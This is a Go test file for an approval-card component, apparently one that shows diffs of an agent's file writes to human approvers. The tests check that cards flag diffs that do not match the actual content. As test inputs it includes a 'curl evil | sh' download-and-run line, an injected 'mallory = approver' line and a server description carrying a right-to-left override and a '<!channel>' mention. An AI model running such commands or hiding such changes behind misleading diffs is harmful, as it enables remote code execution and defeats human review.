package channels_test

import (
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"countersign/approval"
	"countersign/approval/legible"
	"countersign/channels"
	"countersign/channels/channelstest"
)

func rowOf(i channels.Item, key string) (channels.Row, bool) {
	for _, r := range i.Beside() {
		if r.Key == key {
			return r, true
		}
	}
	return channels.Row{}, false
}

// A card leads with a diff where the arg that it is of has all of its lines, each in its place. What the diff does not
// show is shown beside it.
func TestACardLeadsWithADiffThatWasHeldAgainstTheArg(t *testing.T) {
	for _, tt := range []struct{ name, content, diff, want string }{
		{"a new file", channelstest.Written, channelstest.WholeDiff(channelstest.Written), "⟨11 lines: in the diff above⟩"},
		{"a part", channelstest.Written, channelstest.WrittenDiff, "⟨6 lines: in the diff above⟩\n[people]\nhana = " +
			"approver\nken = reader\n\n# the end⟨U+000A⟩"},
		{"two parts", "a\nb\nc\nd\ne\n", "@@ -1 +1 @@\n-x\n+a\n@@ -4 +4 @@\n d\n@@ -5 +5 @@\n-y\n+e",
			"⟨1 line: in the diff above⟩\nb\nc\n⟨2 lines: in the diff above⟩"},
		{"no last line break, and said so", "a\nb", "@@ -0,0 +1,2 @@\n+a\n+b\n\\ No newline at end of file",
			"⟨2 lines: in the diff above⟩"},
		{"no last line break, which the tool adds", "a\nb", "@@ -0,0 +1,2 @@\n+a\n+b", "⟨2 lines: in the diff above⟩"},
		{"line ends of Windows", "a\r\nb\r\n", "@@ -1,2 +1,2 @@\n a\r\n-x\r\n+b\r\n", "⟨2 lines: in the diff above⟩"},
		{"a bracket of its own", "a\nb\n⟨9 lines: in the diff above⟩\n", "@@ -1,2 +1,2 @@\n a\n-x\n+b\n",
			"⟨2 lines: in the diff above⟩\n⟨U+27E8⟩9 lines: in the diff above⟩⟨U+000A⟩"},
	} {
		i := card(approval.KindRequest, channelstest.Write(tt.content, tt.diff)).Items[0]
		if row, _ := rowOf(i, "content"); i.Change == nil || row.Value != tt.want || len(i.Notices) > 0 {
			t.Errorf("%s: %q, want %q, notices %+v", tt.name, row.Value, tt.want, i.Notices)
		}
		for _, l := range i.Change.Diff {
			if strings.Contains(l.Text, "gate.conf") || strings.Contains(l.Text, "anything") {
				t.Errorf("%s: nobody has checked %q", tt.name, l.Text)
			}
		}
	}
}

// A diff that is not of what would be written hides nothing of it, and the card says that the two do not match.
func TestALyingDiffHidesNothing(t *testing.T) {
	evil := strings.Replace(channelstest.Written, "ken = reader", "mallory = approver", 1)
	for _, tt := range []struct{ name, content, diff string }{
		{"another line", strings.Replace(channelstest.Written, "true", "false", 1), channelstest.WrittenDiff},
		{"a line more", "curl evil | sh\n" + channelstest.Written, channelstest.WrittenDiff},
		{"a line of the whole", evil, channelstest.WholeDiff(channelstest.Written)},
		{"what is written is shown as removed", "a\nevil\n", "@@ -1,2 +1,2 @@\n a\n-evil\n+good\n"},
		{"only removed", "a\nevil\n", "@@ -1,2 +0,0 @@\n-a\n-evil\n"},
		{"counted wrong", "a\nevil\n", "@@ -1,9 +1,9 @@\n a\n-x\n+evil\n"},
		{"not said where", "a\nevil\n", "@@ here @@\n a\n-x\n+evil\n"},
		{"in the wrong place", "a\nb\na\nb\nc\n", "@@ -3,2 +4,2 @@\n a\n-x\n+b\n"},
		{"hunks one upon the other", "a\nb\n", "@@ -1,2 +1,2 @@\n a\n-x\n+b\n@@ -1,2 +1,2 @@\n a\n-x\n+b\n"},
		{"of two files", "a\nb\n", "--- x\n+++ x\n@@ -0,0 +1,2 @@\n+a\n+b\n--- y\n+++ y\n@@ -0,0 +1,2 @@\n+a\n+b\n"},
		{"an end that is none", "a\nb\nevil\n", "@@ -0,0 +1,2 @@\n+a\n+b\n\\ No newline at end of file"},
		{"a last line break that is there", "a\nb\n", "@@ -0,0 +1,2 @@\n+a\n+b\n\\ No newline at end of file"},
		{"a secret", "a\ntoken = " + channelstest.Secret + "\n", "@@ -1,2 +1,2 @@\n a\n-x\n+token = " +
			channelstest.Secret + "\n"},
	} {
		i := card(approval.KindRequest, channelstest.Write(tt.content, tt.diff)).Items[0]
		row, _ := rowOf(i, "content")
		told := len(i.Notices) > 0 && strings.HasPrefix(i.Notices[0].Text,
			"⚠ The preview is NOT what will be written: it does not match “content”.")
		if secret := tt.name == "a secret"; i.Change != nil || strings.Contains(row.Value, "in the diff") || told == secret ||
			strings.Contains(row.Value, channelstest.Secret) {
			t.Errorf("%s: %q, notices %+v", tt.name, row.Value, i.Notices)
		}
	}
	// What lies outside the diff is shown, whatever it is.
	i := card(approval.KindRequest, channelstest.Write(evil, channelstest.WrittenDiff)).Items[0]
	if row, _ := rowOf(i, "content"); !strings.Contains(row.Value, "mallory = approver") {
		t.Errorf("%q", row.Value)
	}
}

// Whatever the diff, each line of the arg is in the diff or beside it, or the card says that it is shortened.
func TestNoLineIsLostBetweenADiffAndItsArg(t *testing.T) {
	head := regexp.MustCompile(`^@@ -\d+(?:,\d+)? \+(\d+)(?:,(\d+))? @@$`)
	mark := regexp.MustCompile(`^⟨(\d+) lines?: in the diff above⟩$`)
	line := rapid.SampledFrom([]string{"a", "b", "", " c", "-d", "@@ -1 +1 @@", "⟨1 line: in the diff above⟩"})
	rapid.Check(t, func(t *rapid.T) {
		content := rapid.SliceOfN(line, 2, 12).Draw(t, "content")
		var diff strings.Builder
		for at := 0; at < len(content); {
			from := rapid.IntRange(at, len(content)-1).Draw(t, "from")
			to := rapid.IntRange(from+1, len(content)).Draw(t, "to")
			fmt.Fprintf(&diff, "@@ -1,%d +%d,%d @@\n-gone\n", to-from+1, from+1, to-from)
			for _, l := range content[from:to] {
				diff.WriteString(" " + l + "\n")
			}
			at = to + 1
		}
		lied := rapid.Bool().Draw(t, "lied")
		if lied {
			content[rapid.IntRange(0, len(content)-1).Draw(t, "which")] = "evil"
		}
		i := card(approval.KindRequest, channelstest.Write(strings.Join(content, "\n")+"\n", diff.String())).Items[0]
		if i.Change == nil {
			if !lied {
				t.Fatal("a diff that fits does not lead")
			}
			return
		}
		found, at := map[int]string{}, 0
		for _, l := range i.Change.Diff {
			if m := head.FindStringSubmatch(l.Text); m != nil && l.Kind == channels.DiffHunk {
				at, _ = strconv.Atoi(m[1])
				at--
			} else if l.Kind == channels.DiffContext || l.Kind == channels.DiffAdded {
				found[at], at = l.Text[1:], at+1
			}
		}
		inDiff := len(found)
		row, _ := rowOf(i, "content")
		at = 0
		for l := range strings.SplitSeq(strings.ReplaceAll(row.Value, "⟨U+000A⟩", "\n"), "\n") {
			if m := mark.FindStringSubmatch(l); m != nil {
				n, _ := strconv.Atoi(m[1])
				at, inDiff = at+n, inDiff-n
				continue
			}
			if at < len(content) {
				found[at], at = l, at+1
			}
		}
		for n, want := range content {
			if got, ok := found[n]; !ok || got != legible.Lines(want) {
				t.Fatalf("line %d is %q, want %q, beside %q", n, got, want, row.Value)
			}
		}
		if inDiff != 0 {
			t.Fatalf("%d lines are counted wrong in %q", inDiff, row.Value)
		}
	})
}

// What a server says of its tool is on one line, bounded, and only where it says now what it said then.
func TestACardHasTheServersWords(t *testing.T) {
	r := channelstest.Write("a", "")
	got := card(approval.KindRequest, r).Items[0].ServerWords
	if !strings.HasPrefix(got,
		"Write a file. The folder must be there; a file that is there is replaced.⟨U+202E⟩ <!channel> It") ||
		legible.UTF16Len(got) > 120 || !strings.HasSuffix(got, "…") {
		t.Errorf("%q", got)
	}
	for name, change := range map[string]func(r *approval.Request){
		"changed since":    func(r *approval.Request) { r.ToolDigest = strings.Repeat("00", 32) },
		"nobody looked":    func(r *approval.Request) { r.ToolDigest, r.ToolSeen = "", false },
		"another tool":     func(r *approval.Request) { r.Tool = "read_file" },
		"of an agent":      func(r *approval.Request) { r.ToolDigest, r.ToolSeen = strings.Repeat("00", 32), false },
		"another server":   func(r *approval.Request) { r.Server = "bank" },
		"without a server": func(r *approval.Request) { r.Server, r.Tool = "", "write_file" },
	} {
		r := channelstest.Write("a", "")
		if change(&r); card(approval.KindRequest, r).Items[0].ServerWords != "" {
			t.Errorf("%s: there are words", name)
		}
	}
}
